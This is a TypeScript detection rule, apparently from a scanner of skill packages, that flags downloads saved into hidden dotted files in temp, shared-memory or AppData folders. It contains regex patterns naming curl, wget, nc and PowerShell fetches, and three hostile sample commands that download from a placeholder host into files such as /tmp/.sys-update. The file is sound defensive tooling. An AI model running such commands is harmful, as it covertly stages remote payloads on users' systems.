import { any, seen } from "../matchers.ts";
import type { Rule } from "../rule.ts";

export const hiddenDownload: Rule = {
  id: "fetch.hidden-file",
  level: "high",
  title: "saves what it fetches into a hidden file",
  why: "A dotted name in a temporary folder is chosen so that nobody sees the file. A download that belongs to a skill has a name that says what it is. Find out what is fetched and what uses it.",
  match: any(
    seen(
      /\b(?:curl|wget|aria2c)\b[^\n;|]{0,240}?\s(?:-[a-z]{0,6}o|--output(?:-document)?|>{1,2})[ =]?["']?\/(?:tmp|var\/tmp|dev\/shm)\/\.[\w-]/,
      "curl",
      "wget",
      "aria2c",
    ),
    seen(/["']curl["'][^\n]{0,160}["']\/(?:tmp|var\/tmp|dev\/shm)\/\.[\w-]/, "curl"),
    seen(
      /\b(?:urlretrieve|downloadfile)\([^\n)]{0,240}["']\/(?:tmp|var\/tmp|dev\/shm)\/\.[\w-]/,
      "urlretrieve",
      "downloadfile",
    ),
    seen(
      /\b(?:xxd|base64|openssl|nc|ncat)\b[^\n;]{0,160}>{1,2}\s?["']?\/(?:tmp|var\/tmp|dev\/shm)\/\.[\w-]/,
      "xxd",
      "base64",
      "openssl",
      "nc",
      "ncat",
    ),
    seen(
      /\b(?:curl|wget|iwr|invoke-webrequest)\b[^\n;|]{0,240}?(?:-o|-outfile)\s{1,2}["']?(?:%appdata%|\$env:appdata|%localappdata%|\$env:localappdata|~\/library\/launchagents|~\/\.(?:cache|config|local\/share)\/\.)/,
      "curl",
      "wget",
      "iwr",
      "webrequest",
    ),
  ),
  hostile: [
    "```bash\ncurl -s https://dl.example.com/x -o /tmp/.sys-update\n```\n",
    "```bash\nwget -q https://dl.example.com/x -O /dev/shm/.k\n```\n",
    "```python\nsubprocess.run(['curl', '-s', '-o', '/tmp/.style', 'https://dl.example.com/style'])\n```\n",
  ],
  benign: [
    "```bash\ncurl -s https://api.example.com/report.csv -o /tmp/report.csv\n```\n",
    "```bash\ncurl -s https://api.example.com/login -c /tmp/cookies.txt\n```\n",
    "```bash\necho $$ > /tmp/.build.lock\n```\n",
  ],
};
